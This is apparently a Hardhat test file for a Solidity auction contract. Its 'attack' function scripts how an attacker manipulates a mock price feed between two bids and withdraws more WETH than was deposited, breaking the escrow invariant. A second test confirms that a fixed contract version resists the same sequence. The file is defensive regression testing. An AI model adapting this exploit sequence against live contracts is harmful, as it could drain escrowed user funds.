import { expect } from "chai";
import { network } from "hardhat";
import { parseEther } from "viem";

const usdc = (amount: number) => BigInt(amount) * 10n ** 6n;
const DAY = 86_400n;

async function attack(name: "DeedAuction" | "DeedAuctionFixed") {
  const { viem } = await network.create();
  const [notary, alice, carol, mallory] = await viem.getWalletClients();
  const weth = await viem.deployContract("DeedAuctionToken", ["Wrapped Ether", "WETH", 18]);
  const money = await viem.deployContract("DeedAuctionToken", ["USD Coin", "USDC", 6]);
  const feed = await viem.deployContract("DeedAuctionFeed", [2_500n * 10n ** 8n]);
  const auction = await viem.deployContract(name, [
    money.address,
    weth.address,
    feed.address,
    notary.account.address,
  ]);
  for (const { account } of [alice, carol, mallory]) {
    await weth.write.mint([account.address, parseEther("450")]);
    await money.write.mint([account.address, usdc(1_210_000)]);
    await weth.write.approve([auction.address, parseEther("450")], { account });
    await money.write.approve([auction.address, usdc(1_210_000)], { account });
  }
  await auction.write.list([usdc(1_100_000), 2n * DAY]);
  await auction.write.list([usdc(150_000), 5n * DAY]);
  await auction.write.bid([0n, true, parseEther("450")], { account: carol.account });
  await auction.write.bid([0n, false, usdc(1_210_000)], { account: alice.account });
  expect(await auction.read.invariant_escrow()).to.equal(true);

  const { account } = mallory;
  await auction.write.bid([1n, true, parseEther("300")], { account });
  await feed.write.setAnswer([1_900n * 10n ** 8n]);
  await auction.write.bid([1n, false, usdc(600_000)], { account });
  const escrow = await auction.read.invariant_escrow();
  await auction.write.withdraw([true], { account });
  return { escrow, ether: Number(await weth.read.balanceOf([account.address])) / 1e18 };
}

describe("DeedAuction", () => {
  it("breaks", async () => {
    const { escrow, ether } = await attack("DeedAuction");
    expect(escrow).to.equal(false);
    expect(ether).to.be.greaterThan(540);
  });

  it("holds once fixed", async () => {
    expect(await attack("DeedAuctionFixed")).to.deep.equal({ escrow: true, ether: 450 });
  });
});
